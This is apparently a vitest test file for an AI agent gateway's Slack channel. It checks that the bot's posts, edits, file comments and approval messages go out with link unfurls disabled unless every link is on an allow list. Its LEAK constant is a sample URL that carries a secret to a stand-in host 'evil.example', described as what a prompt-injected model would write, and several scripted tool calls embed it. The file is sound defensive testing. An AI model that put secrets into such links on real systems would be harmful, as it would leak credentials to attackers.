import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { FakeModelServer } from '../fakes/fake-model-server.js';
import { startFakeOpenAIServer } from '../fakes/fake-openai-server.js';
import { type FakeSlack, type FakeSlackCall, startFakeSlack } from '../fakes/fake-slack.js';
import { blockActions } from '../fakes/fake-slack-actions.js';
import { startTestGateway, type TestGateway } from '../helpers/gateway.js';

/**
 * No zero-click leak through Slack unfurls: every message the agent causes (a streamed reply and
 * its `chat.update`s, a complete reply, an approval request and the click's answer, a
 * `messages.send` to a named route, a file's comment) goes out with `unfurl_links` and
 * `unfurl_media` false, unless every link in it is on `linkPreviews.allowHosts`. The real gateway
 * and Bolt against the fake Slack (which records each call's arguments), a fake OpenAI model.
 */

const OWNER = 'U1';
/** What an injected model would write: a URL that carries a secret to a host it controls. */
const LEAK = 'Done. Details: https://evil.example/leak?secret=sk-live-123 and evil.example/x?k=2';

let gateway: TestGateway | undefined;
let fake: FakeSlack | undefined;
let model: FakeModelServer | undefined;
afterEach(async () => {
  await gateway?.dispose();
  await fake?.close();
  await model?.close();
  gateway = fake = model = undefined;
});

async function setup(slack: Record<string, unknown> = {}) {
  fake = await startFakeSlack({ echoPosts: true });
  model = await startFakeOpenAIServer();
  gateway = await startTestGateway({
    config: {
      owners: ['webchat:local', `slack:${OWNER}`],
      channels: {
        slack: { botToken: 'xoxb-previews', appToken: 'xapp-previews', apiUrl: fake.apiUrl, ...slack },
      },
      routes: { '#ops': 'slack:C2' },
      tools: { toolpacks: ['core'] },
      models: { fake: { provider: 'openai', model: 'fake-1', baseUrl: model.url, apiKey: 'sk-previews-01' } },
      agents: { main: { model: 'fake' } },
    },
  });
  await fake.connected();
  return { fake, model, gateway };
}

const mention = (ts: string, text: string) => ({
  type: 'message',
  channel: 'C1',
  channel_type: 'channel',
  user: OWNER,
  text: `<@UBOT> ${text}`,
  ts,
});

/** The bot's posts and edits, the ones that can unfurl. */
const posts = (slack: FakeSlack): FakeSlackCall[] => [
  ...slack.callsTo('chat.postMessage'),
  ...slack.callsTo('chat.update'),
];

const shown = (slack: FakeSlack, text: string) =>
  expect
    .poll(() => [...slack.messages.values()].some((message) => message.text.includes(text)), {
      timeout: 15_000,
    })
    .toBe(true);

describe('link previews on Slack', () => {
  it('every post and update of a turn (send, file comment, approval, click answer, streamed reply) has unfurls off', async () => {
    const { fake, model, gateway } = await setup();
    const workspace = path.join(gateway.dir, 'data/workspaces/main');
    await mkdir(workspace, { recursive: true });
    await writeFile(path.join(workspace, 'report.txt'), 'uptime\n');
    model.push({
      toolCalls: [
        { name: 'messages.send', arguments: { channel: '#ops', body: LEAK } },
        { name: 'chat.attach', arguments: { path: 'report.txt', comment: LEAK } },
      ],
    });
    model.push({ text: `Final. ${LEAK}`, chunks: 8, chunkDelayMs: 150 });
    await fake.deliver(mention('70.1', 'do the thing'));

    // The approval request (a post to another chat asks an approver): the message with buttons.
    const request = () =>
      [...fake.messages.values()].find((message) => message.threadTs === '70.1' && message.blocks.length > 0)
        ?.ts;
    await expect.poll(request, { timeout: 15_000 }).toBeDefined();
    const ts = request() ?? '';
    await fake.interact(blockActions(fake, { ts, user: OWNER, label: 'Approve' }));
    await expect.poll(() => fake.callsTo('chat.update').some((call) => call.args.ts === ts)).toBe(true);
    // The streamed reply, whole, in the thread; the send in #ops; the file.
    await expect
      .poll(
        () =>
          [...fake.messages.values()].some(
            (message) => message.threadTs === '70.1' && /^Final.*evil\.example\/x\?k=2$/.test(message.text),
          ),
        { timeout: 15_000 },
      )
      .toBe(true);
    expect(fake.callsTo('chat.postMessage').filter((call) => call.args.channel === 'C2')).toHaveLength(1);
    await fake.waitForCall('files.completeUploadExternal');

    // Every kind of post was made: streamed placeholder + its updates, the send, the file's comment.
    const all = posts(fake);
    expect(all.filter((call) => call.args.text?.includes('evil.example')).length).toBeGreaterThanOrEqual(3);
    expect(fake.callsTo('chat.update').length).toBeGreaterThanOrEqual(2);
    for (const call of all)
      expect({
        method: call.method,
        text: call.args.text,
        unfurl: [call.args.unfurl_links, call.args.unfurl_media],
      }).toEqual({ method: call.method, text: call.args.text, unfurl: ['false', 'false'] });
    // The file's comment was posted on its own (unfurls off), not as the upload's initial_comment.
    const complete = fake.callsTo('files.completeUploadExternal');
    expect(complete).toHaveLength(1);
    expect(complete[0]?.args.initial_comment).toBeUndefined();
  });

  it('a complete (not streamed) reply has unfurls off; on with every link on allowHosts, off again with one link that is not', async () => {
    const { fake, model } = await setup({
      stream: false,
      linkPreviews: { allowHosts: ['docs.example.com'] },
    });
    model.push({ text: 'See https://docs.example.com/guide for the steps.' });
    await fake.deliver(mention('71.1', 'where is the guide'));
    await shown(fake, 'for the steps');
    model.push({ text: 'See https://docs.example.com/guide and https://evil.example/?k=sk-live-123' });
    await fake.deliver(mention('71.2', 'and the other one'));
    await shown(fake, 'sk-live-123');
    model.push({ text: 'No links here at all.' });
    await fake.deliver(mention('71.3', 'say something plain'));
    await shown(fake, 'No links here');

    const unfurl = (thread: string) =>
      fake
        .callsTo('chat.postMessage')
        .filter((call) => call.args.thread_ts === thread)
        .map((call) => [call.args.unfurl_links, call.args.unfurl_media]);
    expect(unfurl('71.1')).toEqual([['true', 'true']]);
    expect(unfurl('71.2')).toEqual([['false', 'false']]);
    expect(unfurl('71.3')).toEqual([['false', 'false']]);
  });

  it("a channel's own linkPreviews replaces the platform's there", async () => {
    const { fake, model } = await setup({
      stream: false,
      linkPreviews: { allowHosts: ['docs.example.com'] },
      channels: { C1: { linkPreviews: { allowHosts: [] } } },
    });
    model.push({ text: 'See https://docs.example.com/guide for the steps.' });
    await fake.deliver(mention('72.1', 'where is the guide'));
    await shown(fake, 'for the steps');
    const call = fake.callsTo('chat.postMessage').find((each) => each.args.thread_ts === '72.1');
    expect([call?.args.unfurl_links, call?.args.unfurl_media]).toEqual(['false', 'false']);
  });
});
